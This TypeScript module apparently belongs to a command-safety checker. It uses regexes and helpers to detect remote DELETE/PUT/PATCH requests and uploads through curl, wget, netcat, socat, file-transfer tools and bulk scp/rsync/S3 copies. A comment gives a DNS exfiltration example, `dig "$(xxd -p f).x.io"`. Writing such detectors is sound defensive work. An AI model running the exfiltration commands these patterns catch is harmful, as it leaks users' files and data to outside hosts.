/** Checks about other machines that are reached by an address: data that is sent to them, and data of theirs that is changed or deleted. */
import { effectsOf } from "./effects.js";
import { is, says, words } from "./flags.js";
import type { FoundCommand } from "./found.js";
import { valuesOf } from "./options.js";
import { isTemporary, isWithin, placesOf } from "./paths.js";
import type { World } from "./scope.js";
import { UNKNOWN } from "./word.js";

const LOCAL = /(?:^|\/\/|@)(?:localhost|127\.\d+\.\d+\.\d+|0\.0\.0\.0|\[?::1\]?|host\.docker\.internal|[\w-]+\.(?:local|localhost|test|internal))(?:[:/]|$)/;
const isLocal = (command: FoundCommand): boolean => command.args.some(({ text }) => LOCAL.test(text));

const CHANGING = /^(?:DELETE|PUT|PATCH|PURGE|MOVE|COPY|MKCOL|PROPPATCH)$/i;
/** Paths of requests to delete that some services take by POST. */
const DELETING_PATH = /:\/\/[^?#]*[/_.-](?:delete|destroy|purge|shutdown|drop|terminate|wipe)\w*(?:[/?#]|$)/i;

/** Deletes or replaces through an API on another machine. Reading, and sending a form, is free. */
export function changesRemotely(command: FoundCommand): boolean {
	if (command.code !== null && changesInCode(command.code)) return true;
	const methods = methodsOf(command);
	if (methods.length === 0 || isLocal(command)) return false;
	if (methods.some((method) => CHANGING.test(method) || method.includes(UNKNOWN))) return true;
	return methods.some((method) => /^POST$/i.test(method)) && command.args.some(({ text }) => DELETING_PATH.test(text));
}

function methodsOf(command: FoundCommand): string[] {
	if (is(command, "curl", "curlie"))
		return [
			...valuesOf(command, /^(?:-[a-zA-Z]*X|--request)$/, /^(?:--request=|-X)(.+)$/s).map(({ text }) => text),
			...(is(command, "curlie") ? words(command).map(({ text }) => text) : []),
		];
	if (is(command, "wget")) return valuesOf(command, /^--method$/, /^--method=(.+)$/s).map(({ text }) => text);
	if (is(command, "http", "https", "xh", "xhs"))
		return words(command)
			.slice(0, 2)
			.map(({ text }) => text);
	return is(command, "gh", "glab") && says(command, /^api\b/) ? valuesOf(command, /^(?:-X|--method)$/, /^--method=(.+)$/s).map(({ text }) => text) : [];
}

const AWAY = "[\"'`]https?:\\/\\/(?!localhost|127\\.|0\\.0\\.0\\.0|\\[::1)";
const CALLED = new RegExp(`\\b(?:requests|httpx|axios|session|client|got|ky)\\s*\\.\\s*(?:delete|put|patch)\\s*\\(\\s*f?${AWAY}`);
const METHOD = /\bmethod\s*[:=]\s*["'`](?:DELETE|PUT|PATCH)["'`]/i;
const changesInCode = (code: string): boolean => CALLED.test(code) || (METHOD.test(code) && new RegExp(AWAY).test(code));

/** Uploads by programs that send to any address. Copies to a machine that is known by its login (`scp`, `rsync`) are not meant, unless all of the work leaves. */
export function uploads(command: FoundCommand, world: World): boolean {
	const texts = command.args.map(({ text }) => text);
	if (isLocal(command)) return false;
	if (is(command, "curl")) {
		const files = valuesOf(command, /^(?:-[a-zA-Z]*T|--upload-file)$/, /^(?:--upload-file=|-T)(.+)$/s).map(({ text }) => text);
		if (files.length > 0 || (command.input === null && command.upstream.length > 0 && texts.some((text) => /(?:^|=)@-$/.test(text)))) return true;
	}
	if (is(command, "wget") && texts.some((text) => /^--(?:post|body)-file/.test(text))) return true;
	if (is(command, "nc", "ncat", "netcat", "socat"))
		return command.input === null && command.upstream.length > 0 && !texts.includes("-z") && !texts.some((text) => /^-\w*[lz]/.test(text));
	if (is(command, "wormhole", "croc", "transfer")) return texts[0] === "send";
	return spellsOut(command) || copiesAway(command, world);
}

/** `dig "$(xxd -p f).x.io"`: a name server is told what a command has printed. */
function spellsOut(command: FoundCommand): boolean {
	if (!is(command, "dig", "host", "nslookup", "drill", "kdig", "ping", "resolvectl", "getent", "curl", "wget") || command.upstream.length === 0) return false;
	const inName = is(command, "curl", "wget") ? new RegExp(`^(?:https?://)?[^/?#]*${UNKNOWN}[^/?#]*\\.[a-z]`, "i") : new RegExp(`${UNKNOWN}[^/]*\\.[a-z]`, "i");
	return command.args.some(({ text }) => inName.test(text)) || (is(command, "ping") && valuesOf(command, /^-p$/).some(({ text }) => text.includes(UNKNOWN)));
}

const REMOTE = /^(?:[\w.@-]+:(?!\/\/$)|(?:rsync|s3|gs|sftp|ftp|ssh|b2|az):\/\/)/;

/** All of the work, or a whole directory outside of it, goes to another machine. */
function copiesAway(command: FoundCommand, world: World): boolean {
	const sends = is(command, "scp", "rsync", "rclone", "gsutil", "mc", "s3cmd", "azcopy") || (is(command, "aws") && says(command, /^s3 (?:cp|sync|mv)\b/));
	if (!sends || command.remote) return false;
	const list = words(command);
	const to = list.at(-1);
	if (!to || !REMOTE.test(to.text)) return false;
	const isAll = (place: string | null) => place !== null && (isWithin(world.cwd, place) || !(isWithin(place, world.cwd) || isTemporary(place, world)));
	const trees = effectsOf(command).filter(({ deed, tree }) => deed === "reads" && tree);
	const named = is(command, "scp", "rsync", "rclone") ? trees.map(({ file }) => file) : list.slice(0, -1).filter(({ text }) => /^[.~/]/.test(text));
	return named.some((one) => one !== to && !REMOTE.test(one.text) && placesOf(one, command, world).some(isAll));
}
